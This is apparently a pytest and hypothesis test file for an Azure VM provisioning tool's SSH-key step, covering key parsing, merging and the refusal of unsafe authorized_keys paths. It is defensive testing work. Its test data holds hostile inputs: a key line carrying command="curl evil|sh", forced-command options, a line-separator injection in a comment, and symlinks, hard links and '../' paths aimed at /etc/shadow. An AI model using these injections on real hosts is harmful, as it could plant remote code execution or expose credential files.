"""SSH keys step: key validation, where keys go, merging, and refusing unsafe paths."""

from __future__ import annotations

import base64
import os
import re
import stat
import struct
import subprocess
from typing import Tuple

import pytest
from hypothesis import example, given, strategies as st

from azprov import errors
from azprov.errors import InvalidMetadata
from azprov.host import Host
from azprov.imds import PublicKey
from azprov.steps import ssh_keys
from support.cli import requires_root
from support.fakes import ED25519, metadata
from support.scratch_root import make_scratch_root
from support.strategies import ANY_TEXT, characters, fuzz, mutated, utf8
from support import sshkeys
from support.sshkeys import blob, key_line, ssh_string

UID = 1500


def key(key_type: str, comment: str = "me@laptop", seed: bytes = b"") -> str:
    return key_line(key_type, comment, seed)


@pytest.fixture
def root(tmp_path):
    return make_scratch_root(str(tmp_path / "root"), users=[("azureuser", UID)])


@pytest.mark.parametrize("key_type", sorted(ssh_keys.KEY_TYPES))
def test_every_openssh_key_type_is_accepted(key_type):
    assert ssh_keys.parse_key(key(key_type))[0] == key_type


def test_trailing_cr_lf_is_stripped_and_the_comment_kept():
    parsed = ssh_keys.parse_key(ED25519 + "\r\n")
    assert parsed[0] == "ssh-ed25519" and parsed[2] == "azureuser@azprov-demo"
    assert ssh_keys.parse_key(key("ssh-rsa", comment=""))[2] == ""


@pytest.mark.parametrize("data, message", [
    (ED25519 + "\ncommand=\"curl evil|sh\" " + ED25519, "line break"),
    (ED25519 + "\r" + ED25519, "line break"),
    ('command="/bin/sh" ' + ED25519, "options"),
    ("no-pty,from=\"*\" " + ED25519, "options"),
    ("ssh-foo AAAA", "unknown key type"),
    ("ssh-ed25519", "no key data"),
    ("ssh-ed25519 not*base64", "not valid base64"),
    ("ssh-ed25519 " + base64.b64encode(b"\x00\x00").decode(), "truncated"),
    (key("ssh-rsa").replace("ssh-rsa ", "ssh-ed25519 ", 1), "not a ssh-ed25519 key"),
    ("ssh-rsa " + "A" * (17 * 1024), "over"),
    ("", "empty"),
    ("ssh-ed25519 AAAA\x00", "control characters"),
])
def test_hostile_keys_are_refused(data, message):
    with pytest.raises(errors.InvalidKey, match=message) as caught:
        ssh_keys.parse_key(data)
    assert caught.value.reason == "invalid_ssh_key"


def test_too_many_keys_are_refused():
    with pytest.raises(errors.InvalidKey, match="1001 SSH keys"):
        ssh_keys.validate([PublicKey(ED25519)] * 1001)


def test_merge_keeps_existing_lines_and_adds_no_duplicates():
    existing = "# my keys\n" + key("ssh-rsa") + "\n" + ED25519 + " old comment\n"
    merged = ssh_keys.merge(existing, [ssh_keys.parse_key(ED25519), ssh_keys.parse_key(key("ecdsa-sha2-nistp256"))])
    lines = merged.splitlines()
    assert lines[:3] == existing.splitlines()
    assert len(lines) == 4 and lines[3].startswith("ecdsa-sha2-nistp256 ")
    assert ssh_keys.merge(merged, [ssh_keys.parse_key(key("ecdsa-sha2-nistp256"))]) == merged


@pytest.mark.parametrize("options", ['command="/usr/bin/false" ', "restrict ", 'from="10.0.0.0/8" ',
                                     'no-pty,command="echo no" '])
def test_a_same_key_line_behind_options_becomes_the_plain_key(options):
    existing = key("ssh-rsa") + "\n" + options + ED25519 + "\n" + ED25519 + "\n"
    merged = ssh_keys.merge(existing, [ssh_keys.parse_key(ED25519)])
    assert merged.splitlines() == [key("ssh-rsa"), ED25519]


def test_a_commented_out_key_does_not_count_as_installed():
    merged = ssh_keys.merge("# " + ED25519 + "\n", [ssh_keys.parse_key(ED25519)])
    assert merged.splitlines() == ["# " + ED25519, ED25519]


def test_the_path_follows_authorized_keys_file(root):
    host = Host(root)
    alice = host.accounts.user("azureuser")
    open(os.path.join(root, "etc/ssh/sshd_config.d/50-keys.conf"), "w").write(
        "AuthorizedKeysFile %h/.ssh/keys_%u .ssh/authorized_keys2\n")
    targets = ssh_keys.target_files(host, alice, [PublicKey(ED25519, "")])
    assert list(targets) == ["/home/azureuser/.ssh/keys_azureuser"]


def test_an_imds_path_is_honoured_only_when_sshd_reads_it(root, caplog):
    host = Host(root)
    alice = host.accounts.user("azureuser")
    open(os.path.join(root, "etc/ssh/sshd_config.d/50-keys.conf"), "w").write(
        "AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2\n")
    keys = [PublicKey(ED25519, "/home/azureuser/.ssh/authorized_keys"),
            PublicKey(key("ssh-rsa"), "/home/azureuser/.ssh/authorized_keys2"),
            PublicKey(key("ssh-dss"), "/root/.ssh/authorized_keys"),
            PublicKey(key("ecdsa-sha2-nistp256"), "/home/azureuser/../root/.ssh/authorized_keys"),
            PublicKey(key("ecdsa-sha2-nistp384"), "/home/azureuser/.bashrc"),
            PublicKey(key("ecdsa-sha2-nistp521"), "/home/azureuser/.ssh/rc"),
            PublicKey(key("ssh-ed25519", seed=b"x"), "/home/azureuser/.ssh/authorized_keys/x"),
            PublicKey(key("ssh-ed25519", seed=b"y"), ".ssh/authorized_keys2")]
    targets = ssh_keys.target_files(host, alice, keys)
    assert targets == {"/home/azureuser/.ssh/authorized_keys": [0, 2, 3, 4, 5, 6, 7],
                       "/home/azureuser/.ssh/authorized_keys2": [1]}
    assert "not an authorized-keys file of azureuser" in caplog.text


@pytest.mark.parametrize("setting, expected", [
    ("/etc/ssh/authorized_keys/%u", "/etc/ssh/authorized_keys/azureuser"),
    ("/etc/ssh/keys/%U .ssh/authorized_keys", f"/etc/ssh/keys/{UID}"),
    ("/etc/ssh/shared_keys .ssh/k", "/home/azureuser/.ssh/k"),
    ("%h/.config/ssh/keys", "/home/azureuser/.config/ssh/keys"),
])
def test_the_first_file_of_this_user_is_used(root, setting, expected):
    host = Host(root)
    open(os.path.join(root, "etc/ssh/sshd_config.d/50-keys.conf"), "w").write(
        f"AuthorizedKeysFile {setting}\n")
    assert list(ssh_keys.target_files(host, host.accounts.user("azureuser"), [PublicKey(ED25519)])) == [expected]


def test_a_file_shared_by_every_user_is_refused(root):
    host = Host(root)
    open(os.path.join(root, "etc/ssh/sshd_config.d/50-keys.conf"), "w").write(
        "AuthorizedKeysFile /etc/ssh/all_keys\n")
    with pytest.raises(errors.NoAuthorizedKeysFile, match="every user") as caught:
        ssh_keys.target_files(host, host.accounts.user("azureuser"), [PublicKey(ED25519)])
    assert caught.value.reason == "no_authorized_keys_file"


def test_authorized_keys_file_none_fails(root):
    host = Host(root)
    open(os.path.join(root, "etc/ssh/sshd_config.d/01.conf"), "w").write("AuthorizedKeysFile none\n")
    with pytest.raises(errors.StepFailed, match="none"):
        ssh_keys.target_files(host, host.accounts.user("azureuser"), [PublicKey(ED25519)])


def test_keys_for_a_system_account_are_refused(root, config):
    with pytest.raises(errors.InvalidMetadata):
        ssh_keys.check(Host(root), metadata(admin_username="root"), config.provisioning)


@requires_root
def test_keys_are_installed_with_owner_and_modes(root, config):
    host = Host(root)
    real = subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(root, "tmp", "k")],
                          capture_output=True)
    assert real.returncode == 0
    real_key = open(os.path.join(root, "tmp", "k.pub")).read()
    md = metadata(keys=[real_key + "\r\n", key("ssh-rsa")])
    assert ssh_keys.apply(host, md, config.provisioning) is True
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    keys_file = os.path.join(ssh_dir, "authorized_keys")
    for path, mode in ((ssh_dir, 0o700), (keys_file, 0o600)):
        info = os.lstat(path)
        assert (stat.S_IMODE(info.st_mode), info.st_uid, info.st_gid) == (mode, UID, UID)
    lines = open(keys_file).read().splitlines()
    assert lines[0] == real_key.strip() and len(lines) == 2
    fingerprint = subprocess.run(["ssh-keygen", "-l", "-f", keys_file], capture_output=True, text=True)
    assert fingerprint.returncode == 0 and "ED25519" in fingerprint.stdout
    assert ssh_keys.apply(host, md, config.provisioning) is False


@requires_root
def test_an_existing_ssh_directory_keeps_its_owner_and_mode(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o755)
    os.chown(ssh_dir, 0, 0)  # root's and 0755: sshd accepts it
    assert ssh_keys.apply(Host(root), metadata(), config.provisioning) is True
    info = os.stat(ssh_dir)
    assert (stat.S_IMODE(info.st_mode), info.st_uid) == (0o755, 0)
    keys = os.stat(os.path.join(ssh_dir, "authorized_keys"))
    assert (stat.S_IMODE(keys.st_mode), keys.st_uid) == (0o600, UID)


@requires_root
def test_a_symlinked_ssh_directory_fails_and_its_target_is_untouched(root, config):
    target = os.path.join(root, "root/.ssh")
    os.mkdir(target, 0o700)
    open(os.path.join(target, "authorized_keys"), "w").write("root's key\n")
    os.symlink("/root/.ssh", os.path.join(root, "home/azureuser/.ssh"))
    with pytest.raises(errors.UnsafePath, match="symbolic link"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)
    assert os.listdir(target) == ["authorized_keys"]
    assert open(os.path.join(target, "authorized_keys")).read() == "root's key\n"


@requires_root
def test_a_symlinked_authorized_keys_file_fails(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o700)
    os.chown(ssh_dir, UID, UID)
    os.symlink("/etc/shadow", os.path.join(ssh_dir, "authorized_keys"))
    shadow = open(os.path.join(root, "etc/shadow")).read()
    with pytest.raises(errors.UnsafePath):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)
    assert open(os.path.join(root, "etc/shadow")).read() == shadow


@requires_root
def test_a_home_owned_by_someone_else_fails(root, config):
    os.chown(os.path.join(root, "home/azureuser"), 4242, 4242)
    with pytest.raises(errors.UnsafePath, match="owned by uid 4242"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)


@requires_root
def test_a_world_writable_home_fails_as_sshd_would(root, config):
    os.chmod(os.path.join(root, "home/azureuser"), 0o777)
    with pytest.raises(errors.UnsafePath, match="writable"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)


def test_a_missing_user_fails(tmp_path, config):
    root = make_scratch_root(str(tmp_path / "r"))
    with pytest.raises(errors.StepFailed, match="does not exist"):
        ssh_keys.apply(Host(root), metadata(admin_username="ghost"), config.provisioning)


@requires_root
def test_check_refuses_a_symlinked_ssh_directory_before_anything_changes(root, config):
    os.symlink("/root/.ssh", os.path.join(root, "home/azureuser/.ssh"))
    with pytest.raises(errors.UnsafePath, match="symbolic link"):
        ssh_keys.check(Host(root), metadata(), config.provisioning)


@requires_root
def test_check_refuses_a_symlinked_key_file(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o700)
    os.symlink("/etc/shadow", os.path.join(ssh_dir, "authorized_keys"))
    with pytest.raises(errors.UnsafePath, match="symbolic link"):
        ssh_keys.check(Host(root), metadata(), config.provisioning)


def test_check_passes_for_a_user_still_to_be_created(tmp_path, config):
    root = make_scratch_root(str(tmp_path / "r"))
    ssh_keys.check(Host(root), metadata(admin_username="newuser"), config.provisioning)


# --------------------------------------------------------------------------------------------
# properties (hypothesis): strategies and conventions in support/strategies.py


SSH_KEY_TYPES = sorted([
    "ssh-rsa", "ssh-dss", "ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384",
    "ecdsa-sha2-nistp521", "sk-ssh-ed25519@openssh.com", "sk-ecdsa-sha2-nistp256@openssh.com",
    "ssh-ed25519-cert-v01@openssh.com",
])

BASE64_BLOB = re.compile(r"[A-Za-z0-9+/]+={0,2}")

# Comments: anything printable on one line, as ssh-keygen -C allows.
COMMENT_TEXT = st.text(
    alphabet=characters(exclude_categories=("Cc", "Cs", "Zl", "Zp")), max_size=40
)


@st.composite
def ssh_keys_lines(draw, comments=COMMENT_TEXT) -> Tuple[str, Tuple[str, str, str]]:
    key_type = draw(st.sampled_from(SSH_KEY_TYPES))
    blob = base64.b64encode(sshkeys.blob(key_type, draw(st.binary(max_size=16)))).decode()
    comment = draw(comments)
    space = draw(st.sampled_from([" ", "  ", "\t", " \t"]))
    indent = draw(st.sampled_from(["", " ", "\t"]))
    line = f"{indent}{key_type}{space}{blob}"
    if comment.strip():
        line += f"{space}{comment}"
    line += draw(st.sampled_from(["", "\n", "\r\n", "\r\n\r\n", " "]))
    return line, (key_type, blob, comment.strip() if comment.strip() else "")


def check_ssh_key(key_data: str):
    try:
        parsed = ssh_keys.parse_key(key_data)
    except InvalidMetadata:
        return None
    key_type, blob, comment = parsed
    assert key_type in ssh_keys.KEY_TYPES  # the first field: never an option
    assert BASE64_BLOB.fullmatch(blob)
    raw = base64.b64decode(blob)
    (length,) = struct.unpack(">I", raw[:4])
    assert raw[4:4 + length] == key_type.encode()
    line = " ".join(part for part in parsed if part)
    assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f]", line)
    return parsed


SSH_FRAGMENTS = [b"\n", b"\r", b"\x00", b"command=\"sh\" ", b"no-pty,", b"restrict ", b"=", b"\xe2\x80\xa8",
                 b"\xc2\x85", b"ssh-ed25519 ", b" ", b"\t", b"AAAA"]


@fuzz(300)
@example("")
@example('command="/bin/sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==')
@example("no-pty,from=\"*\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB")
@given(st.one_of(
    ANY_TEXT,
    st.text(max_size=300),
    ssh_keys_lines().flatmap(lambda pair: mutated(utf8(pair[0]), SSH_FRAGMENTS)).map(
        lambda b: b.decode("utf-8", "replace")
    ),
).filter(lambda s: not any(c in s for c in "\x85\u2028\u2029")))  # see the xfail test below
def test_ssh_key_validator_accepts_only_single_plain_keys(key_data):
    check_ssh_key(key_data)


@fuzz(300)
@given(ssh_keys_lines())
def test_ssh_key_validator_round_trips_valid_keys(pair):
    line, expected = pair
    assert check_ssh_key(line) == expected


@fuzz(100)
@given(st.sampled_from(['command="sh" ', "no-pty ", 'from="*",no-agent-forwarding ', "restrict ",
                        "cert-authority ", 'environment="A=B" ']), ssh_keys_lines())
def test_ssh_key_validator_refuses_options(options, pair):
    with pytest.raises(InvalidMetadata):
        ssh_keys.parse_key(options + pair[0])


@fuzz(200)
@given(st.text(max_size=300), st.lists(ssh_keys_lines(), max_size=4))
def test_ssh_key_merge_is_idempotent_and_keeps_every_key(existing, lines):
    keys = [check_ssh_key(line) for line, _ in lines]
    once = ssh_keys.merge(existing, keys)
    assert ssh_keys.merge(once, keys) == once
    file_lines = once.splitlines()
    for key_type, key_blob, _ in keys:
        assert any(line.split()[:2] == [key_type, key_blob] for line in file_lines)


@fuzz(50)
@example(
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtra2tra2tra2tra2tra2tra2tra2tra2tra2tra2tr "
    'me\u2028command="sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtra2tra2tra2tra2tra2tra2tra2tra2tra2tra2tr'
)
@given(ssh_keys_lines(comments=st.tuples(COMMENT_TEXT, st.sampled_from(["\u2028", "\u2029", "\x85"]),
                                         COMMENT_TEXT).map("".join)).map(lambda pair: pair[0]))
def test_ssh_key_comment_never_holds_a_line_break(key_data):
    parsed = check_ssh_key(key_data)
    if parsed is not None:
        once = ssh_keys.merge("", [parsed])
        assert len(once.splitlines()) == 1
        assert ssh_keys.merge(once, [parsed]) == once


# --- keys sshd cannot use ------------------------------------------------------------------------

def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize("data, message", [
    ("ssh-ed25519 " + _b64(ssh_string(b"ssh-ed25519")), "32 key bytes"),
    ("ssh-ed25519 " + _b64(ssh_string(b"ssh-ed25519") + ssh_string(b"\1" * 31)), "32 key bytes"),
    ("ssh-ed25519 " + _b64(blob("ssh-ed25519") + b"\0"), "cut short"),
    ("ssh-ed448 " + _b64(ssh_string(b"ssh-ed448") + ssh_string(b"\1" * 57)), "unknown key type"),
    ("ssh-rsa " + _b64(ssh_string(b"ssh-rsa") + ssh_string(b"\1\0\1") + ssh_string(b"\x7f" * 64)),
     "511 bits"),
    ("ssh-rsa " + _b64(ssh_string(b"ssh-rsa") + ssh_string(b"\1\0\1")), "not an RSA public key"),
    ("ecdsa-sha2-nistp256 " + _b64(ssh_string(b"ecdsa-sha2-nistp256") + ssh_string(b"nistp384")
                                   + ssh_string(b"\4" + b"\1" * 96)), "not an ECDSA key on nistp256"),
    ("ecdsa-sha2-nistp256 " + _b64(ssh_string(b"ecdsa-sha2-nistp256") + ssh_string(b"nistp256")
                                   + ssh_string(b"\2" + b"\1" * 32)), "uncompressed"),
    ("ssh-dss " + _b64(ssh_string(b"ssh-dss") + ssh_string(b"\1")), "not a DSA public key"),
])
def test_keys_sshd_cannot_use_are_refused(data, message):
    with pytest.raises(errors.InvalidKey, match=message):
        ssh_keys.parse_key(data)


def test_real_keys_of_every_type_ssh_keygen_makes_are_accepted(tmp_path):
    for kind, bits in (("ed25519", None), ("rsa", "1024"), ("rsa", "4096"), ("ecdsa", "256"),
                       ("ecdsa", "384"), ("ecdsa", "521"), ("dsa", None)):
        path = str(tmp_path / f"{kind}{bits}")
        done = subprocess.run(["ssh-keygen", "-q", "-t", kind, *(["-b", bits] if bits else []),
                               "-N", "", "-C", "me@x", "-f", path], capture_output=True, text=True)
        if done.returncode != 0:
            assert kind == "dsa", done.stderr  # an OpenSSH built without DSA
            continue
        line = open(path + ".pub").read()
        assert ssh_keys.parse_key(line)[2] == "me@x"
        if kind == "ed25519":  # a certificate of it, signed by a throwaway CA
            subprocess.run(["ssh-keygen", "-q", "-s", path, "-I", "id", path + ".pub"], check=True,
                           capture_output=True)
            assert ssh_keys.parse_key(open(path + "-cert.pub").read())[0].endswith("-cert-v01@openssh.com")


def test_a_lone_dsa_key_is_a_warning(caplog):
    ssh_keys.validate([PublicKey(key("ssh-dss"))])
    assert "OpenSSH refuses DSA keys" in caplog.text
    caplog.clear()
    ssh_keys.validate([PublicKey(key("ssh-dss")), PublicKey(ED25519)])
    assert "DSA" not in caplog.text


# --- where the keys go, and what azprov may change on the way --------------------------------------

@requires_root
def test_a_hard_linked_authorized_keys_is_refused_before_anything_changes(root, config):
    ssh_dir = os.path.join(root, "home/azureuser/.ssh")
    os.mkdir(ssh_dir, 0o700)
    os.chown(ssh_dir, UID, UID)
    os.link(os.path.join(root, "etc/shadow"), os.path.join(ssh_dir, "authorized_keys"))
    shadow = open(os.path.join(root, "etc/shadow")).read()
    with pytest.raises(errors.UnsafePath, match="2 hard links"):
        ssh_keys.check(Host(root), metadata(), config.provisioning)
    with pytest.raises(errors.UnsafePath, match="hard links"):
        ssh_keys.apply(Host(root), metadata(), config.provisioning)
    assert open(os.path.join(root, "etc/shadow")).read() == shadow


@requires_root
def test_keys_outside_the_home_go_where_sshd_reads_them(root, config):
    open(os.path.join(root, "etc/ssh/sshd_config.d/05-keys.conf"), "w").write(
        "AuthorizedKeysFile /etc/ssh/authorized_keys/%u\n")
    owner_mode = lambda path: (lambda i: (i.st_mode, i.st_uid, i.st_gid))(os.stat(path))  # noqa: E731
    etc_ssh = owner_mode(os.path.join(root, "etc/ssh"))
    assert ssh_keys.apply(Host(root), metadata(), config.provisioning) is True
    directory = os.stat(os.path.join(root, "etc/ssh/authorized_keys"))
    assert (stat.S_IMODE(directory.st_mode), directory.st_uid) == (0o755, 0)
    keys = os.stat(os.path.join(root, "etc/ssh/authorized_keys/azureuser"))
    assert (stat.S_IMODE(keys.st_mode), keys.st_uid) == (0o600, UID)
    assert owner_mode(os.path.join(root, "etc/ssh")) == etc_ssh
    assert not os.path.exists(os.path.join(root, "home/azureuser/.ssh"))


@requires_root
def test_a_group_writable_directory_above_an_outside_file_is_refused(root, config):
    open(os.path.join(root, "etc/ssh/sshd_config.d/05-keys.conf"), "w").write(
        "AuthorizedKeysFile /srv/keys/%u\n")
    os.makedirs(os.path.join(root, "srv/keys"))
    os.chmod(os.path.join(root, "srv/keys"), 0o775)
    with pytest.raises(errors.UnsafePath, match="writable by group"):
        ssh_keys.check(Host(root), metadata(), config.provisioning)


@requires_root
def test_only_directories_azprov_creates_become_the_users(root, config):
    open(os.path.join(root, "etc/ssh/sshd_config.d/05-keys.conf"), "w").write(
        "AuthorizedKeysFile .config/ssh/keys\n")
    config_dir = os.path.join(root, "home/azureuser/.config")
    os.mkdir(config_dir, 0o755)  # the image's, root-owned: sshd accepts it, azprov leaves it
    assert ssh_keys.apply(Host(root), metadata(), config.provisioning) is True
    assert (os.stat(config_dir).st_uid, stat.S_IMODE(os.stat(config_dir).st_mode)) == (0, 0o755)
    made = os.stat(os.path.join(config_dir, "ssh"))
    assert (made.st_uid, stat.S_IMODE(made.st_mode)) == (UID, 0o700)


@requires_root
@pytest.mark.parametrize("trap", ["link-dir", "link-file", "loose"])
def test_a_skeleton_that_would_copy_a_trap_into_the_new_home_is_refused(tmp_path, config, trap):
    root = make_scratch_root(str(tmp_path / "r"))
    skel_ssh = os.path.join(root, "etc/skel/.ssh")
    if trap == "link-dir":
        os.symlink("/root/.ssh", skel_ssh)
    else:
        os.mkdir(skel_ssh, 0o777 if trap == "loose" else 0o700)
        os.chmod(skel_ssh, 0o777 if trap == "loose" else 0o700)
        if trap == "link-file":
            os.symlink("/etc/shadow", os.path.join(skel_ssh, "authorized_keys"))
    with pytest.raises(errors.UnsafePath, match="useradd would copy it"):
        ssh_keys.check(Host(root), metadata(admin_username="newuser"), config.provisioning)


@fuzz(200)
@given(ssh_keys_lines(), st.binary(max_size=80))
def test_a_blob_sshd_cannot_parse_is_refused(pair, tail):
    """A key type followed by anything: accepted only if the fields sshd parses are there."""
    key_type = pair[1][0]
    data = base64.b64encode(ssh_string(key_type.encode()) + tail).decode()
    parsed = check_ssh_key(f"{key_type} {data}")
    if parsed is not None:
        assert ssh_keys.blob_problem(key_type, base64.b64decode(data)) == ""


@fuzz(100)
@given(st.sampled_from(['command="/usr/bin/false" ', "restrict ", 'from="10.0.0.1" ', "no-pty ",
                        "# "]), ssh_keys_lines(), st.lists(ssh_keys_lines(), max_size=3))
def test_merge_leaves_every_key_usable_by_its_owner(prefix, pair, others):
    """Whatever line an image has for a key, after the merge the key has exactly one line, and it
    is the plain key."""
    keys = [pair[1]] + [other[1] for other in others]
    existing = prefix + " ".join(part for part in pair[1] if part) + "\n"
    merged = ssh_keys.merge(existing, keys)
    for key_type, blob_text, _ in keys:
        lines = [line for line in merged.splitlines() if blob_text in line and not line.startswith("#")]
        assert len(lines) == 1 and lines[0].split()[:2] == [key_type, blob_text]


@pytest.mark.parametrize("setting", ["%h/../../etc/shadow", "/etc/%u/../shadow", ".ssh/../../../etc/shadow"])
def test_an_authorized_keys_file_that_climbs_out_is_never_used(root, setting):
    host = Host(root)
    open(os.path.join(root, "etc/ssh/sshd_config.d/05-keys.conf"), "w").write(f"AuthorizedKeysFile {setting}\n")
    with pytest.raises(errors.NoAuthorizedKeysFile):
        ssh_keys.target_files(host, host.accounts.user("azureuser"), [PublicKey(ED25519)])


@requires_root
def test_an_existing_file_elsewhere_is_never_taken_over(tmp_path, config):
    root = make_scratch_root(str(tmp_path / "r"), users=[("sshd_config", 1500)])
    open(os.path.join(root, "etc/ssh/sshd_config.d/05-keys.conf"), "w").write("AuthorizedKeysFile /etc/ssh/%u\n")
    before = os.stat(os.path.join(root, "etc/ssh/sshd_config"))
    with pytest.raises(errors.UnsafePath, match="belongs to uid 0"):
        ssh_keys.check(Host(root), metadata(admin_username="sshd_config"), config.provisioning)
    with pytest.raises(errors.UnsafePath, match="belongs to uid 0"):
        ssh_keys.apply(Host(root), metadata(admin_username="sshd_config"), config.provisioning)
    after = os.stat(os.path.join(root, "etc/ssh/sshd_config"))
    assert (after.st_uid, after.st_mode, after.st_ino) == (before.st_uid, before.st_mode, before.st_ino)


def test_an_authorized_keys_file_in_a_match_block_is_a_warning(root, caplog):
    host = Host(root)
    with open(os.path.join(root, "etc/ssh/sshd_config"), "a") as handle:
        handle.write("Match User azureuser\n  AuthorizedKeysFile /etc/ssh/keys/%u\n")
    assert list(ssh_keys.target_files(host, host.accounts.user("azureuser"), [PublicKey(ED25519)])) == [
        "/home/azureuser/.ssh/authorized_keys"]
    assert "inside a Match block" in caplog.text
